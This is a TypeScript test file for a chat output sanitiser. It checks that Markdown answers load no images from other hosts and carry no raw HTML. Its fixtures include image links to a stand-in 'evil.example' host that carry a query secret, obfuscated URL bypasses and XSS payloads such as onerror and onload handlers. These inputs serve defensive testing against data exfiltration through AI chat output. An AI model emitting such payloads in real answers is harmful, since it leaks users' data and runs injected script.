import { expect } from 'chai';
import fc from 'fast-check';
import { marked, type Token } from 'marked';
import { Harmless } from '../../workers/completion/harmless.ts';

const clean = (text: string, publicUrl = 'https://chat.example.org') => new Harmless(publicUrl).next(text);

describe('an answer behind the output guard', () => {
  it('loads no image of another host, in any form of Markdown', () => {
    const cases: [said: string, shown: string][] = [
      ['See ![a chart](https://evil.example/x.png?q=secret).', 'See a chart.'],
      ['![a](//evil.example/x)', 'a'],
      ['![a](<https://evil.example/x> "title")', 'a'],
      ['![a](data:image/svg+xml;base64,AAAA)', 'a'],
      ['![a][ref]\n\n[ref]: https://evil.example/x', '[a][ref]\n\n[ref] https://evil.example/x'],
      ['![a [b] c](https://evil.example/x)', '[a [b] c](https://evil.example/x)'],
      ['![a\\](b)](https://evil.example/x)', 'a\\](b)'],
      [
        '![a](https://chat.example.org/logo.png) ![b](/logo.png)',
        '![a](https://chat.example.org/logo.png) ![b](/logo.png)',
      ],
      ['![a](https://chat.example.org@evil.example/x)', 'a'],
      ['![a](\\\\evil.example/x)', 'a'],
      // Markdown reads these addresses as https://evil.example and //evil.example.
      ['![a](&#104;ttps://evil.example/x)', 'a'],
      ['![a](https&colon;//evil.example/x)', 'a'],
      ['![a](https\\://evil.example/x)', 'a'],
      ['![a](/&#x2f;evil.example/x)', 'a'],
      ['![b](/logo.png?a=1&b=2)', '![b](/logo.png?a=1&b=2)'],
    ];
    for (const [said, shown] of cases) expect(clean(said), said).to.equal(shown);
    expect(clean('![a](https://chat.example.org/x)', '')).to.equal('a');
  });

  it('holds no raw HTML', () => {
    const cases: [said: string, shown: string][] = [
      ['<img src=x onerror=alert(1)>Hello', 'Hello'],
      ['<b>bold</b> and <!-- hidden --> more', 'bold and  more'],
      ['<scr<b>ipt>alert(1)</scr</b>ipt>', 'alert(1)'],
      ['<svg/onload=alert(1)', 'svg/onload=alert(1)'],
      ['<a href="https://evil.example">x</a>', 'x'],
      ['tag\u{E0041}\u{E0042} characters', 'tag characters'],
    ];
    for (const [said, shown] of cases) expect(clean(said), said).to.equal(shown);
  });

  it('keeps code, signs, links, citations and addresses as they are', () => {
    for (const said of [
      'Write `<b>` or ``<i>``, as in\n\n```html\n<img src="https://evil.example/x">\n```\n\nand go on.',
      'If a < b and c > d, 1 <2 or x<=y',
      'See [the page](https://other.example/x) and <https://other.example> [5].',
      'Write to <help@example.org>! Really![5] And![5, 7]',
      'A ~~~ B\n~~~\n<b>\n~~~\n',
    ])
      expect(clean(said), said).to.equal(said);
  });

  it('takes for code only what Markdown surely does', () => {
    expect(clean('a ` b `<img src=x>` c')).to.not.contain('<img');
    const guard = new Harmless('');
    expect(guard.next('a ` b ') + guard.next('`<img src=x>` c')).to.not.contain('<img');
    expect(guard.next('\n\nNew: `<b>`')).to.contain('`<b>`');
    expect(clean('    ```\n<img src=x>\n')).to.not.contain('<img');
    expect(clean('``` `x`\n<img src=x>\n')).to.not.contain('<img');
    const fenced = new Harmless('');
    expect(fenced.next('```\n<a>\n') + fenced.next('<b>\n```\n<c>')).to.equal('```\n<a>\n<b>\n```\n');
  });

  it('is cut before a tag or an image that goes on', () => {
    const cut = (text: string) => text.slice(0, Harmless.whereToCut(text, text.length));
    expect(cut('One. ![a](https://evil.example/?q=')).to.equal('One. ');
    expect(cut('One. ![an alt')).to.equal('One. ');
    expect(cut('One. <img src="a. b')).to.equal('One. ');
    expect(cut('Wow!')).to.equal('Wow');
    expect(cut('One. Two. ')).to.equal('One. Two. ');
    const long = `<a ${'x'.repeat(2_000)}`;
    expect(cut(long)).to.equal(long);
    expect(clean(long)).to.not.contain('<');
  });

  it('loads no image however its text comes in pieces, cut where the guard cuts', () => {
    const pieces = fc.array(
      fc.constantFrom(
        '<',
        '>',
        'b',
        '!',
        '[',
        ']',
        '(',
        ')',
        'https://evil.example/x',
        ' ',
        '\n\n',
        '/',
        '`',
      ),
      { maxLength: 40 },
    );
    fc.assert(
      fc.property(pieces, fc.array(fc.integer({ min: 1, max: 30 })), (all, sizes) => {
        const shown = shownOf(all.join(''), sizes);
        const prose = shown.replace(/(`+)[^`]*\1/g, '');
        expect(prose).to.not.match(/!\[[^\n[\]]*\]\(https:\/\/evil/);
      }),
    );
  });

  it('passes nothing for code that Markdown reads as text', () => {
    for (const text of [
      '\\`<img src=x>\\`',
      '`a\n# b\n<img src=x>`',
      '`a\n`<img src=x>`',
      '| a ` b | c `<img src=x>` |',
      '    ```\n<img src=x>\n    ```',
      '- a\n  ```\n  b\n<img src=x>',
      '- a\n  ```\n```\n```\n<img src=x>\n',
      '~~~`\n\n~~~\n\n<img src=x>',
      '<b>```\n\n```\n\n<img src=x>',
      '``\r<img src=x>``',
      '```\u2028```\n<img src=x>',
      'www.\u2028`<img src=x>`',
      '```\na\n```\u00a0\n```\n<img src=x>\n```',
      '```\na\n```\t\n```\n<img src=x>\n```',
      '- a\n  ```\n  b\n\u00a0\u00a0<img src=x>',
      '> ```\r<img src=x>\r```',
    ])
      expect(clean(text), text).to.not.contain('<img');
    const code = 'Use `Array<string>`:\n\n```ts\nconst a: Array<string> = [];\n```\n\nand `Map<a, b>`.';
    expect(clean(code)).to.equal(code);
  });

  it('shows a reader of Markdown no image and no tag, however text and code are mixed and cut', () => {
    const parts =
      '` `` ``` http://x www.x.y //x ~~~ \\ | - > # 1. a <b > "> <!-- --> <img/src=x> <a/title=" ![a](https://evil.example/x) ![a](&#104;ttps://evil.example/x) [a]:https://evil.example/x ![a]'.split(
        ' ',
      );
    const spaces = ['\n', '\r', '\r\n', '\n\n', '\t', '\u00a0', '\u2028', '  ', '    '];
    const pieces = fc.array(fc.constantFrom(...parts, ...spaces, '- ', '> ', '# ', '|-|-|\n'), {
      maxLength: 14,
    });
    fc.assert(
      fc.property(pieces, fc.array(fc.integer({ min: 1, max: 30 }), { maxLength: 6 }), (all, sizes) => {
        const shown = shownOf(all.join(''), sizes);
        expect(loadedBy(shown), shown).to.deep.equal([]);
      }),
      { numRuns: 10_000 },
    );
  });

  it('is cleaned in time linear in the text', () => {
    for (const piece of ['<', '<a', '![', '![a](', '`', '[a]: ', '<b>', '!', '\n\n', '``` '])
      expect(clean(piece.repeat(4_000 / piece.length))).to.be.a('string');
  });
});

/** Returns what the guard shows of a text that comes in pieces of these sizes, cut where the guard cuts. */
function shownOf(text: string, sizes: number[]): string {
  const guard = new Harmless('');
  let [held, shown] = [text, ''];
  for (const size of sizes) {
    const end = Harmless.whereToCut(held, Math.min(size, held.length));
    shown += guard.next(held.slice(0, end));
    held = held.slice(end);
  }
  return shown + guard.next(held);
}

/** Returns what a page would load or run of a text in Markdown: images of other hosts, and tags. */
function loadedBy(text: string): string[] {
  const found: string[] = [];
  marked.walkTokens(tokensOf(text), (token: Token) => {
    if (token.type === 'image' && /evil/.test(String(token.href))) found.push(token.raw);
    if (token.type === 'html' && /^<[a-z]/i.test(token.raw)) found.push(token.raw);
  });
  return found;
}

/** Returns the tokens of a text. Some lists within quotes make the lexer throw; the pages then show the text as it is. */
function tokensOf(text: string): Token[] {
  try {
    return marked.lexer(text);
  } catch {
    return [];
  }
}
